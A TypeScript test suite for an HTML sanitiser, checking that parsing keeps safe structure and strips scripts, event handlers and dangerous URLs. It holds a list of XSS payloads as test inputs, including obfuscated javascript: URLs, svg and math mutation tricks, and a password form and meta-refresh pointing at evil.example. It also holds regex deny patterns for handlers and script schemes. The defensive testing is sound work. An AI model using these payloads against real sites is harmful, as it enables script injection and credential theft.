import { array, assert, constantFrom, property } from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type HtmlElement, type HtmlNode, parseHtml } from './parse-html.ts'

/** Serialises the tree to readable text. */
function write(nodes: HtmlNode[]): string {
  return nodes
    .map((node) =>
      typeof node === 'string'
        ? node
        : `<${node.tag}${Object.entries(node.attributes)
            .map(([name, value]) => ` ${name}="${value}"`)
            .join('')}>${write(node.children)}</${node.tag}>`,
    )
    .join('')
}

describe('parseHtml', () => {
  it.each([
    { why: 'keeps structure', html: '<h2>A</h2><p>b <strong>c</strong></p>', out: '<h2>A</h2><p>b <strong>c</strong></p>' },
    { why: 'decodes entities', html: '<p>Cat &amp; dog &euro;5 &#x41;</p>', out: '<p>Cat & dog €5 A</p>' },
    { why: 'keeps a number and its percent sign together', html: '<p>Lamm (28 %), 5 % x</p>', out: '<p>Lamm (28\u00A0%), 5\u00A0% x</p>' },
    { why: 'closes unclosed elements', html: '<ul><li>a', out: '<ul><li>a</li></ul>' },
    { why: 'ignores a closing tag without an opening tag', html: 'a</p>b', out: 'ab' },
    { why: 'demotes h1 to h2', html: '<h1>A</h1>', out: '<h2>A</h2>' },
    { why: 'drops scripts with their text', html: 'a<script>alert(1)</script>b', out: 'ab' },
    { why: 'drops an unclosed script to the end', html: 'a<script>alert(1)', out: 'a' },
    { why: 'drops unknown elements, keeps their text', html: '<blink>a</blink>', out: 'a' },
    { why: 'drops event handlers', html: '<p onclick="x()">a</p>', out: '<p>a</p>' },
    { why: 'drops script URLs', html: '<a href="java&#10;script:x()">a</a>', out: '<a>a</a>' },
    { why: 'drops data URLs', html: '<img src="data:text/html,x">', out: '<img></img>' },
    {
      why: 'keeps relative and mailto URLs',
      html: '<a href="/de/agb">a</a><a href="mailto:a@b.example">b</a>',
      out: '<a href="/de/agb">a</a><a href="mailto:a@b.example">b</a>',
    },
    { why: 'a lone < is text', html: '1 < 2', out: '1 < 2' },
  ])('$why', ({ html, out }) => {
    expect(write(parseHtml(html))).toBe(out)
  })

  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</script>',
    '<script\n>alert(1)</script\n>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" OnError="alert(1)">',
    '<img/src=x/onerror=alert(1)>',
    '<img src=x onerror\n=\nalert(1)>',
    '<p onclick=alert(1) onmouseover="alert(1)">a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="  javascript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="&#x6A&#x61;vascript:alert(1)">a</a>',
    '<a href="\u0001javascript:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<style>body{background:url(javascript:alert(1))}</style>',
    '<p style="position:fixed;inset:0">a</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=password><button>OK</button></form>',
    '<base href="https://evil.example/"><link rel=stylesheet href=x.css><meta http-equiv=refresh content="0;url=//evil.example">',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--><script>alert(1)</script>-->',
    '<b><i><a href="javascript:alert(1)"><table><tr><td onclick=x>a</b></i>',
    '<p title="><script>alert(1)</script>">a</p>',
    "<p title='\"><img src=x onerror=alert(1)>'>a</p>",
    `${'<div>'.repeat(2000)}<script>alert(1)</script>`,
  ])('removes everything from %s that runs, loads or styles', (html) => {
    for (const { tag, attributes } of walk(parseHtml(html))) {
      expect(tag).not.toMatch(/^(?:script|style|svg|math|iframe|object|embed|form|input|button|base|link|meta|template|noscript)$/)
      expect(Object.keys(attributes).join(' ')).not.toMatch(/\b(?:on\w+|style|srcdoc|xlink)\b/i)
      const addresses = [attributes['href'] ?? '', attributes['src'] ?? ''].map((address) => address.replaceAll(/[\s\p{Cc}]/gu, ''))
      expect(addresses.join(' ')).not.toMatch(/(?:^| )(?:javascript|vbscript|data):/i)
    }
  })

  it('drops everything dangerous from random input', () => {
    const piece = constantFrom(
      '<script>',
      '</script>',
      '<a href="',
      'javascript:',
      '">',
      '<svg onload=x>',
      '<img src=x onerror=y>',
      '<p ',
      "'",
      '"',
      '>',
      '<',
      '&#106;',
      'text',
      '\t',
    )
    assert(
      property(array(piece, { maxLength: 12 }), (pieces) => {
        for (const { tag, attributes } of walk(parseHtml(pieces.join('')))) {
          expect(['a', 'img', 'p']).toContain(tag)
          for (const [name, value] of Object.entries(attributes)) {
            expect(['href', 'src']).toContain(name)
            expect(value.replaceAll(/\s/g, '')).not.toMatch(/^javascript:/i)
          }
        }
      }),
    )
  })
})

function* walk(nodes: HtmlNode[]): Generator<HtmlElement> {
  for (const node of nodes) {
    if (typeof node === 'string') continue
    yield node
    yield* walk(node.children)
  }
}
